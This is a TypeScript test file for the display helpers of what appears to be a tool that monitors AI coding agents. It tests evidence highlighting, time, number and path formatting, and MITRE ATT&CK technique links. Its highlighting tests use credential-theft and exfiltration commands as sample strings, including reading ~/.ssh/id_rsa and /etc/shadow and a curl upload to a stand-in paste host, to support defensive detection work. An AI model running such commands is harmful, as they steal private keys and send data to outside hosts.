import { describe, expect, test } from "vitest";
import { type Piece, isMarked, mark, markAny } from "./evidence";
import { bytes, count, counted, money, short } from "./number";
import { from, project, shortId } from "./path";
import { techniqueLink, techniqueName } from "./techniques";
import { ago, between, clock, exact, moment, setZone, span } from "./time";
import { agentTitle, fileClassWord, kindWord, modeWord } from "./words";

const shown = (pieces: Piece[]) => pieces.map((piece) => (piece.marked ? `[${piece.text}]` : piece.text)).join("");

describe("mark", () => {
  test.each([
    ["as it stands", "cat ~/.ssh/id_rsa | base64", "cat ~/.ssh/id_rsa", "[cat ~/.ssh/id_rsa] | base64"],
    ["each time", "rm a; rm a", "rm a", "[rm a]; [rm a]"],
    ["other white space", "cat   ~/.ssh/id_rsa", "cat ~/.ssh/id_rsa", "[cat   ~/.ssh/id_rsa]"],
    ["word by word, where quotes were undone", "cat '/etc/shadow'", "cat /etc/shadow", "[cat] '[/etc/shadow]'"],
    ["signs of patterns are only text", "echo a.b (c)", "a.b (c)", "echo [a.b (c)]"],
    ["nothing in common", "ls -la", "curl x", "ls -la"],
    ["no evidence", "ls -la", "  ", "ls -la"],
    ["no text", "", "ls", ""],
    ["short words are not worth a mark", "ls a b c", "x a y", "ls a b c"],
    ["markup stays text", "<b>x</b> evil", "evil", "<b>x</b> [evil]"],
  ])("%s", (_name, text, evidence, expected) => {
    expect(shown(mark(text, evidence))).toBe(expected);
  });

  test("loses no letter", () => {
    const text = "curl -d @/tmp/.c https://paste.example/ && curl -d @/tmp/.c x";
    const pieces = mark(text, "curl -d '@/tmp/.c' https://paste.example/");
    expect(pieces.map((piece) => piece.text).join("")).toBe(text);
    expect(isMarked(pieces)).toBe(true);
  });
});

test.each([
  ["cat ~/.ssh/id_rsa | base64", "[cat ~/.ssh/id_rsa] | base64"],
  ["cat /home/a/.ssh/id_rsa", "[cat /home/a/.ssh/id_rsa]"],
  ["cd ~/.ssh; cat 'id_rsa'", "cd ~/.ssh; [cat] '[id_rsa]'"],
  ["cat ~/.ssh/id_rsa.pub", "[cat] ~/.ssh/id_rsa.pub"],
])("evidence names files in full: %s", (text, expected) => {
  expect(shown(markAny(text, ["nothing such", "cat /home/a/.ssh/id_rsa"]))).toBe(expected);
});

test.each([
  [0, "0 ms"],
  [120.4, "120 ms"],
  [4200, "4.2 s"],
  [42_900, "42 s"],
  [12 * 60_000, "12 min"],
  [72 * 60_000, "1 h 12 min"],
  [2 * 3_600_000, "2 h"],
  [24 * 3_600_000, "1 day"],
  [72 * 3_600_000, "3 days"],
  [-5, "0 ms"],
])("span(%d) is %s", (milliseconds, expected) => {
  expect(span(milliseconds)).toBe(expected);
});

describe("ago", () => {
  const now = Date.UTC(2026, 10, 21, 8, 0, 0);
  test.each([
    [0, "just now"],
    [-3000, "just now"],
    [2000, "2 s ago"],
    [3 * 60_000, "3 min ago"],
    [5 * 3_600_000, "5 h ago"],
    [26 * 3_600_000, "1 day ago"],
    [50 * 3_600_000, "2 days ago"],
  ])("%d ms before is %s", (passed, expected) => {
    expect(ago(new Date(now - passed).toISOString(), now)).toBe(expected);
  });
});

test("moments are said in the reader's time zone", () => {
  const at = new Date(2026, 10, 21, 14, 32, 7, 45).toISOString();
  expect(moment(at, Date.parse(at) + 60_000)).toBe("14:32:07");
  expect(moment(at, Date.parse(at) + 86_400_000)).toBe("21 Nov 14:32");
  expect(exact(at)).toBe("Sat 21 Nov 2026, 14:32:07.045");
  expect(between(at, new Date(2026, 10, 21, 15, 0, 0).toISOString())).toBe("27 min");
});

test("or in UTC", () => {
  setZone("utc");
  try {
    const at = "2026-11-21T23:59:07.045Z";
    expect([clock(at), exact(at), moment(at, Date.parse(at) + 60_000)]).toEqual([
      "23:59:07", "Sat 21 Nov 2026, 23:59:07.045 UTC", "21 Nov 23:59",
    ]);
  } finally {
    setZone("local");
  }
});

test("numbers", () => {
  expect([count(18_234), counted(1, "event"), counted(0, "event"), counted(2, "day")]).toEqual(["18,234", "1 event", "0 events", "2 days"]);
  expect([bytes(0), bytes(1), bytes(999), bytes(4200), bytes(42_000_000), bytes(3e12)]).toEqual([
    "0 bytes", "1 byte", "999 bytes", "4.2 kB", "42 MB", "3000 GB",
  ]);
});

test("tokens and money", () => {
  expect([short(0), short(999), short(14_800), short(148_000), short(999_700), short(1_234_567), short(2e9)]).toEqual([
    "0", "999", "14.8 k", "148 k", "1 M", "1.2 M", "2 G",
  ]);
  expect([money(0), money(1), money(3_184_000_000), money(1_234_567_000_000_000)]).toEqual(["$0.00", "under $0.01", "$3.18", "$1,234,567.00"]);
});

test("paths and ids", () => {
  expect([project("/home/a/startup-api/"), project("/"), project(null), project("")]).toEqual(["startup-api", "/", undefined, undefined]);
  expect([from("/a/b/c.rs", "/a/b/"), from("/a/bc", "/a/b"), from("/a/b", null), from("/a/b", "/")]).toEqual(["c.rs", "/a/bc", "/a/b", "/a/b"]);
  expect([shortId("abc"), shortId("01234567-89ab")]).toEqual(["abc", "01234567"]);
});

test("words that are not known are shown as they came", () => {
  expect([agentTitle("codex"), agentTitle("new-agent"), kindWord("tool_call"), kindWord("brain_scan"), fileClassWord("git_hook")]).toEqual([
    "Codex CLI", "new-agent", "Tool call", "brain scan", "Git hook or configuration",
  ]);
  expect(modeWord("panic")).toEqual({ word: "panic", means: "" });
});

test("techniques", () => {
  expect([techniqueName("t1552.004"), techniqueName("T9999")]).toEqual(["Private keys", undefined]);
  expect(techniqueLink("t1552.004")).toBe("https://attack.mitre.org/techniques/T1552/004/");
});
